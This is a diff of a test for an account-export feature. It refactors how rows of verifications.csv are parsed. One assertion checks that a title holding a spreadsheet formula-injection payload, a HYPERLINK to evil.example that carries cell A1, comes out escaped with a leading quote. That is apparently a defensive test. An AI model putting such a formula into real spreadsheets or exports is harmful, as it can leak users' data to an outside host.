@@ -132,9 +132,10 @@ it('builds a zip of the account, its verifications, templates and documents, and
   expect(csv).toHaveLength(3);
   expect(csv.find((line) => line.includes(first.code))).toContain('Ada Lovelace');
   expect(csv.find((line) => line.includes(second.code))).toContain('"Alan, ""the"" Turing"');
-  const [firstRow] = parse(entries.get('verifications.csv')!, { columns: true }).filter(
-    (row: Record<string, string>) => row.code === first.code,
-  );
+  const rows = parse(entries.get('verifications.csv')!, { columns: true }) as Array<
+    Record<string, string>
+  >;
+  const firstRow = rows.find((row) => row.code === first.code)!;
   expect(firstRow.title).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
 
   const templates = JSON.parse(entries.get('templates.json')!.toString());
